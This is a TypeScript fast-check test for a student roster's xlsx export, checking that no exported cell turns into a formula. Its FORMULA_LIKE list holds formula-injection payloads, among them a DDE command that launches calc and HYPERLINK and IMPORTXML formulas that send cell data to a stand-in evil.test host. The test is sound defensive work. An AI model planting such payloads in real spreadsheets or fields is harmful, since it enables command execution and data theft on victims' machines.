/**
 * No cell of an export is ever a formula, whatever the data: a spreadsheet must never run what a
 * parent typed. A fast-check property over buildWorkbook with the real student columns: arbitrary records (formula prefixes = + - @, tabs,
 * DDE payloads, any Unicode) are written to .xlsx bytes, read back with xlsx (tests only: the app
 * never reads with xlsx, an ESLint rule forbids it), and every cell must have no formula and hold
 * exactly the text it was given.
 */
import fc from 'fast-check';
import { read, utils, type CellObject } from 'xlsx';
import type { Student } from '../../../api/types';
import { studentsListColumns } from '../table/rosterColumns';
import { buildWorkbook, workbookToArrayBuffer } from '../../../shared/export/xlsxWorkbook';

const FORMULA_LIKE = [
  '=1+1',
  '=HYPERLINK("http://evil.test","click")',
  "=cmd|' /C calc'!A0",
  '+972 50 123 4567',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  '=',
  "'=1+1",
  '=1+1;=2+2',
  '＝1+1',
  '=IMPORTXML(CONCAT("http://evil.test/?v=",A2),"//a")',
];

/** Text as the backend can store it: well-formed Unicode without control characters (XML 1.0 cannot hold those). */
const storable = (s: string) =>
  // eslint-disable-next-line no-control-regex -- the point is to find control characters
  !/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/.test(s) && !/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/.test(s);

const textArb = fc.oneof(
  { arbitrary: fc.constantFrom(...FORMULA_LIKE), weight: 3 },
  { arbitrary: fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r'), fc.string({ maxLength: 30 })).map(([p, s]) => p + s), weight: 3 },
  { arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }), weight: 2 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 40 }), weight: 1 },
).filter((s) => s.trim() !== '' && storable(s));

const studentArb: fc.Arbitrary<Student> = fc.record({
  id: fc.nat(),
  teacherId: fc.nat(),
  firstName: textArb,
  lastName: textArb,
  parentName: textArb,
  parentEmail: textArb,
  phone: textArb,
  program: textArb,
  startDate: fc.oneof(fc.constant('2025-01-31'), textArb),
  endDate: fc.oneof(fc.constant('2025-06-30'), textArb),
  numberOfLessons: fc.integer({ min: 0, max: 1000 }),
}) as fc.Arbitrary<Student>;

test('no exported cell is a formula, and every text cell reads back as the text given (fast-check, 300 workbooks)', () => {
  fc.assert(
    fc.property(fc.array(studentArb, { minLength: 1, maxLength: 8 }), (students) => {
      const bytes = workbookToArrayBuffer(buildWorkbook(students, studentsListColumns, 'Students'));
      const book = read(bytes, { type: 'array', cellFormula: true });
      const sheet = book.Sheets[book.SheetNames[0]!]!;
      for (const [address, cell] of Object.entries(sheet)) {
        if (address.startsWith('!')) continue;
        expect({ address, f: (cell as CellObject).f }).toEqual({ address, f: undefined });
      }
      students.forEach((student, i) => {
        studentsListColumns.forEach((column, c) => {
          const cell = sheet[utils.encode_cell({ r: i + 1, c })] as CellObject | undefined;
          const given = column.value(student);
          // An empty cell (a student without progress figures) is no cell at all.
          if (given !== '' && (column.kind === 'text' || (column.kind === 'date' && !/^\d{4}-\d{2}-\d{2}$/.test(String(given))))) {
            expect({ at: utils.encode_cell({ r: i + 1, c }), t: cell?.t, v: cell?.v }).toEqual({ at: utils.encode_cell({ r: i + 1, c }), t: 's', v: given });
          }
        });
      });
    }),
    { numRuns: 300 },
  );
});
